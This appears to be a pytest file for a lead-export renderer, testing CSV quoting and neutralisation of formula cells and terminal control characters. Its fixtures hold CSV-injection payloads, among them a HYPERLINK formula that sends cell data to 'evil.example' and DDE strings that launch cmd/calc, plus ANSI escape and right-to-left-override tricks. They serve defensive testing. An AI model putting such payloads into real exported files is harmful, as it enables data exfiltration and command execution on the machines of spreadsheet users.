"""services.cli.render: the leads as CSV (RFC 4180, UTF-8, formula cells neutralised)."""

from __future__ import annotations

import csv
import io

import pytest

from prospect.v1 import jobs_pb2
from services.cli import render

HOSTILE_NAME = '=HYPERLINK("http://evil.example/?"&A1,"Click for details")'


def parse(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline=""), strict=True))


def by_column(row: list[str]) -> dict[str, str]:
    return dict(zip(render.CSV_COLUMNS, row, strict=True))


def hostile_lead() -> jobs_pb2.Lead:
    """What a provider or a scraped web page could put in a lead's text fields."""
    return jobs_pb2.Lead(
        id="lead_1",
        campaign_id="cmp_1",
        place_id="place_1",
        business_name=HOSTILE_NAME,
        address='1 "Main" St,\r\nSuite 2, Seattle',
        phone="+1 206 555 0100",
        website="-2+3+cmd|' /C calc'!A0",
        email="@SUM(1+1)*cmd|' /C calc'!A0",
        email_status="\tvalid",
        confidence_score=87,
        cost=0.059000000000000004,
        rating=4.5,
        review_count=1234,
        from_cache=True,
        cost_by_provider={"neverbounce": 0.008, "hunter": 0.051},
        email_source="=website",
    )


def test_header_then_one_record_per_lead_with_every_field():
    plain = jobs_pb2.Lead(id="lead_2", campaign_id="cmp_1", place_id="place_2",
        business_name="Café Ümlaut", address="2 Pike St", phone="(206) 555-0101",
        website="https://cafe.example", email="hi@cafe.example", email_status="unverified",
        confidence_score=64, cost=0.017, rating=3.0, review_count=0,
        email_source="pattern")  # fmt: skip
    rows = parse(render.leads_csv([hostile_lead(), plain]))
    assert rows[0] == list(render.CSV_COLUMNS)
    assert len(rows) == 3
    assert by_column(rows[2]) == {
        "rank": "2",
        "business_name": "Café Ümlaut",
        "address": "2 Pike St",
        "phone": "(206) 555-0101",
        "website": "https://cafe.example",
        "rating": "3",
        "review_count": "0",
        "confidence_score": "64",
        "email": "hi@cafe.example",
        "email_status": "unverified",
        "from_cache": "false",
        "cost_usd": "0.017",
        "cost_by_provider_usd": "",
        "lead_id": "lead_2",
        "place_id": "place_2",
        "campaign_id": "cmp_1",
        "email_source": "pattern",
    }


def test_formula_cells_are_neutralised_and_round_trip():
    (row,) = parse(render.leads_csv([hostile_lead()]))[1:]
    cells = by_column(row)
    assert cells["business_name"] == "'" + HOSTILE_NAME
    assert cells["phone"] == "'+1 206 555 0100"
    assert cells["website"] == "'-2+3+cmd|' /C calc'!A0"
    assert cells["email"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert cells["email_status"] == "'\tvalid"
    # Quotes, commas and a line break inside a field survive the round trip.
    assert cells["address"] == '1 "Main" St,\r\nSuite 2, Seattle'
    # Numbers stay numbers: nothing prefixed, no exponent, no float noise.
    assert cells["rank"] == "1"
    assert cells["rating"] == "4.5"
    assert cells["review_count"] == "1234"
    assert cells["confidence_score"] == "87"
    assert cells["cost_usd"] == "0.059"
    assert cells["from_cache"] == "true"
    assert cells["cost_by_provider_usd"] == "hunter=0.051; neverbounce=0.008"
    assert cells["email_source"] == "'=website"


@pytest.mark.parametrize("first", ["=", "+", "-", "@", "\t", "\r"])
def test_every_formula_trigger_is_neutralised(first):
    assert render.neutralize_cell(first + "1+1") == "'" + first + "1+1"
    (row,) = parse(render.leads_csv([jobs_pb2.Lead(business_name=first + "x")]))[1:]
    assert by_column(row)["business_name"] == "'" + first + "x"


@pytest.mark.parametrize("text", ["", "Blue Bottle", "1+1", "'=already quoted", " =x", "a=b"])
def test_other_cells_are_left_alone(text):
    assert render.neutralize_cell(text) == text


def test_rfc_4180_line_ends_and_quoting():
    text = render.leads_csv([hostile_lead()])
    assert text.endswith("\r\n")
    header, record = text.split("\r\n", 1)  # the first CRLF ends the header
    assert header == ",".join(render.CSV_COLUMNS)
    # A field with a quote, a comma or a line break is quoted, its quotes doubled;
    # a plain one is not.
    assert '"1 ""Main"" St,\r\nSuite 2, Seattle"' in record
    assert record.startswith("1,")
    assert ",lead_1,place_1,cmp_1,'=website\r\n" in record


def test_email_source_is_the_last_column_after_the_older_ones():
    # Appended, so that a reader of the columns by position before it still works.
    assert render.CSV_COLUMNS[-1] == "email_source"
    assert render.CSV_COLUMNS[:-1][-3:] == ("lead_id", "place_id", "campaign_id")


def test_no_leads_is_a_header_only():
    assert render.leads_csv([]) == ",".join(render.CSV_COLUMNS) + "\r\n"
    assert render.leads_document([], "csv") == render.leads_csv([])


@pytest.mark.parametrize(
    ("value", "places", "text"),
    [
        (0.0, 6, "0"),
        (-0.0, 6, "0"),
        (0.059000000000000004, 6, "0.059"),
        (1234.5, 6, "1234.5"),
        (1e-7, 6, "0"),
        (2.0, 2, "2"),
        (4.449, 2, "4.45"),
        (12345678.123456, 6, "12345678.123456"),
    ],
)
def test_format_decimal(value, places, text):
    assert render.format_decimal(value, places) == text


def test_costs_are_written_from_the_exact_micros() -> None:
    assert [render.format_micros(m) for m in (0, 1, 100_001, 12_000_000, 35_000)] == [
        "0", "0.000001", "0.100001", "12", "0.035",
    ]  # fmt: skip
    # The micros are the books; the double is for display (here one that rounds otherwise).
    leads = [jobs_pb2.Lead(id=f"lead_{i}", cost=0.1000009, cost_micros=100_000) for i in range(3)]
    assert "3 leads, $0.30 in total" in render.leads_document(leads, "table")
    rows = list(csv.reader(io.StringIO(render.leads_document(leads, "csv"), newline="")))
    cost = rows[0].index("cost_usd")
    assert [row[cost] for row in rows[1:]] == ["0.1", "0.1", "0.1"]


def test_a_table_never_prints_a_providers_control_characters() -> None:
    lead = jobs_pb2.Lead(
        business_name="Cafe\x1b[2J\x1b]0;pwned\x07", address="1 Main St\nEvil line",
        website="https://x.example/\u202egnp.exe",
    )  # fmt: skip
    out = render.leads_document([lead], "table")
    assert not any(ch in out for ch in "\x1b\x07\u202e")
    assert len(out.splitlines()) == len(
        render.leads_document([jobs_pb2.Lead()], "table").splitlines()
    )
